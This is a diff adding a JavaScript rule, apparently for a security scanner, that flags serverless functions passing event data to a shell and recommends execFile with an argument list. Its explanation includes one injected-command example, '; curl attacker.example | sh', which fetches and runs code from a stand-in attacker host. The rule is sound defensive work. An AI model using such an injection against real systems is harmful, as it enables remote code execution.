@@ -1,0 +1,27 @@
+import { flowProblems } from '../../flow-problems.js';
+import { definePolicy } from '../../policy.js';
+
+export default definePolicy({
+  id: 'event-to-os-command',
+  threat: 'event-injection',
+  title: 'Event data reaches a shell',
+  several: ['calls', 'pass event data to a shell'],
+  severity: 'critical',
+  why: 'A value such as `; curl attacker.example | sh` becomes a command that runs with the permissions of the function.',
+  remedy: 'Start the program without a shell: `execFile` with a list of arguments.',
+  acceptable: 'The text comes only from events that the same team writes.',
+  references: {
+    owasp: ['OW1'],
+    csa: ['SAS-1'],
+    cwe: ['CWE-78', 'CWE-88'],
+    peers: ['detect-child-process', 'dangerous-subprocess-use', 'dangerous-system-call'],
+    links: { any: ['https://nodejs.org/api/child_process.html', 'https://cwe.mitre.org/data/definitions/78.html'] },
+  },
+
+  inspect: (code) =>
+    flowProblems(code, {
+      dangers: ['command'],
+      severity: () => 'critical',
+      message: (_, name) => `${name} passes text of its event to a command`,
+    }),
+});
